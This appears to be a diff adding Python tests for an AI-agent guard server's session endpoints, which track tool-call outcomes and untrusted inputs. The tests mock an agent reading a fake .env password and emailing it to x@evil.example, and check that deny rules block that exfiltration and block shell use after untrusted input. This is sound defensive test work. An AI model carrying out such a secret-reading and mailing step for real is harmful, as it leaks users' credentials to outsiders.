@@ -1,0 +1,193 @@
+"""The session endpoints of the server (``/v1/sessions/outcome``, ``/v1/sessions/input``)
+on the real app over a real guard and store (SQLite and PostgreSQL): an agent's
+reported outcome (fingerprints computed client-side) makes the server's flow rule
+refuse the exfiltration; tenants are apart; bad input is refused naming the field;
+auth is the check's."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from interlock.session.fingerprints import of_data
+from interlock.session.packing import pack_text
+from server.harness import Api, open_api
+
+POLICY = """\
+version: 1
+default: deny
+labels:
+  - id: secrets-read
+    attach: [secret]
+    name: read_file
+    params:
+      path: {glob: ["**/.env"]}
+rules:
+  - id: reads
+    decision: allow
+    reason: reading is fine
+    name: read_file
+  - id: mail
+    decision: allow
+    reason: mail is fine
+    name: send_email
+  - id: shell
+    decision: allow
+    reason: shell is fine
+    name: shell
+  - id: no-exfil
+    decision: deny
+    reason: data returned by a secret read may not leave
+    name: send_email
+    session:
+      flows_from:
+        labels: [secret]
+  - id: no-shell-after-untrusted
+    decision: deny
+    reason: no shell after untrusted input
+    name: shell
+    session:
+      labels: [untrusted]
+"""
+PLAIN_POLICY = """\
+version: 1
+default: deny
+rules:
+  - id: reads
+    decision: allow
+    reason: reading is fine
+    name: read_file
+"""
+SECRET_FILE = "DB_PASSWORD=hunter2-but-longer-7f3a9c\n"
+
+
+async def _open(store_url: str, tmp_path: Path, policy: str) -> AsyncIterator[Api]:
+    path = tmp_path / "interlock.yaml"
+    path.write_text(policy)
+    async for opened in open_api(store_url, path):
+        yield opened
+
+
+@pytest.fixture
+async def api(store_url: str, tmp_path: Path) -> AsyncIterator[Api]:
+    async for opened in _open(store_url, tmp_path, POLICY):
+        yield opened
+
+
+async def _check(api: Api, who: str, session: str, name: str, **arguments: Any) -> dict[str, Any]:
+    return await api.check(who, name=name, arguments=arguments, context={"session_id": session})
+
+
+async def _outcome(api: Api, who: str, **body: Any) -> Any:
+    return await api.client.post("/v1/sessions/outcome", json=body, headers=api.h(who))
+
+
+async def test_a_reported_outcome_makes_the_flow_rule_refuse(api: Api) -> None:
+    read = await _check(api, "agent", "s-1", "read_file", path="/app/.env")
+    assert read["verdict"] == "allow"
+    leak = {"to": "x@evil.example", "body": "pw hunter2-but-longer-7f3a9c"}
+    # before the outcome: the step did not run as far as the server knows
+    assert (await _check(api, "agent", "s-1", "send_email", **leak))["verdict"] == "allow"
+    answer = await _outcome(
+        api,
+        "agent",
+        session_id="s-1",
+        decision_id=read["decision_id"],
+        executed=True,
+        fingerprints=pack_text(of_data(SECRET_FILE)),
+    )
+    assert answer.status_code == 200 and answer.json() == {"recorded": True, "seq": None}
+    refused = await _check(api, "agent", "s-1", "send_email", **leak)
+    assert refused["verdict"] == "deny" and "no-exfil" in refused["rule_ids"]
+    benign = {"to": "x@evil.example", "body": "see you tomorrow"}
+    assert (await _check(api, "agent", "s-1", "send_email", **benign))["verdict"] == "allow"
+
+
+async def test_an_outcome_of_another_tenant_or_unknown_decision_is_not_recorded(api: Api) -> None:
+    read = await _check(api, "agent", "s-1", "read_file", path="/app/.env")
+    body = {
+        "session_id": "s-1",
+        "decision_id": read["decision_id"],
+        "executed": True,
+        "fingerprints": pack_text(of_data(SECRET_FILE)),
+        "labels": ["pii"],
+    }
+    other = await _outcome(api, "other_agent", **body)  # globex: acme's session is not its
+    assert other.status_code == 200 and other.json()["recorded"] is False
+    unknown = await _outcome(api, "agent", **{**body, "decision_id": "dec_nothing"})
+    assert unknown.json()["recorded"] is False
+    history = api.guard.sessions
+    assert history is not None
+    view = history.view("acme", "s-1")
+    assert view.steps[-1].executed is None and "pii" not in view.labels
+
+
+async def test_an_untrusted_input_labels_the_session(api: Api) -> None:
+    assert (await _check(api, "agent", "s-2", "shell", command="ls"))["verdict"] == "allow"
+    answer = await api.client.post(
+        "/v1/sessions/input",
+        json={
+            "session_id": "s-2",
+            "fingerprints": pack_text(of_data("a mail from a stranger")),
+            "trusted": False,
+            "labels": ["untrusted"],
+        },
+        headers=api.h("agent"),
+    )
+    assert answer.status_code == 200 and answer.json() == {"recorded": True, "seq": 2}
+    refused = await _check(api, "agent", "s-2", "shell", command="ls")
+    assert refused["verdict"] == "deny" and "no-shell-after-untrusted" in refused["rule_ids"]
+    # the other tenant's session of the same name is untouched
+    assert (await _check(api, "other_agent", "s-2", "shell", command="ls"))["verdict"] == "allow"
+
+
+@pytest.mark.parametrize(
+    ("body", "field"),
+    [
+        ({"fingerprints": "not base64!"}, "fingerprints"),
+        ({"fingerprints": "AAAA"}, "fingerprints"),  # 3 bytes: not 8 a fingerprint
+        ({"fingerprints": "A" * 50_000}, "fingerprints"),  # more than 4096
+        ({"labels": ["no spaces allowed"]}, "labels"),
+        ({"labels": ["x"] * 33}, "labels"),
+        ({"session_id": ""}, "session_id"),
+        ({"session_id": "a\nb"}, "session_id"),
+        ({"executed": "perhaps"}, "executed"),
+        ({"extra": 1}, "extra"),
+    ],
+)
+async def test_bad_outcomes_are_refused_naming_the_field(
+    api: Api, body: dict[str, Any], field: str
+) -> None:
+    good = {"session_id": "s", "decision_id": "d", "executed": True}
+    answer = await _outcome(api, "agent", **{**good, **body})
+    assert answer.status_code == 422, answer.text
+    assert field in answer.json()["error"]["field"]
+
+
+async def test_auth_is_the_checks(api: Api) -> None:
+    body = {"session_id": "s", "decision_id": "d", "executed": True}
+    assert (await api.client.post("/v1/sessions/outcome", json=body)).status_code == 401
+    assert (await _outcome(api, "approver", **body)).status_code == 403
+    forbidden = await api.client.post(
+        "/v1/sessions/input", json={"session_id": "s"}, headers=api.h("approver")
+    )
+    assert forbidden.status_code == 403
+
+
+async def test_a_policy_without_sessions_records_nothing(store_url: str, tmp_path: Path) -> None:
+    async for api in _open(store_url, tmp_path, PLAIN_POLICY):
+        read = await _check(api, "agent", "s", "read_file", path="/app/.env")
+        answer = await _outcome(
+            api, "agent", session_id="s", decision_id=read["decision_id"], executed=True
+        )
+        assert answer.json() == {"recorded": False, "seq": None}
+
+
+async def test_the_endpoints_are_in_the_openapi_document(api: Api) -> None:
+    paths = (await api.client.get("/v1/openapi.json")).json()["paths"]
+    for path in ("/v1/sessions/outcome", "/v1/sessions/input"):
+        assert "post" in paths[path]
+        assert {"200", "401", "403", "422", "503"} <= set(paths[path]["post"]["responses"])
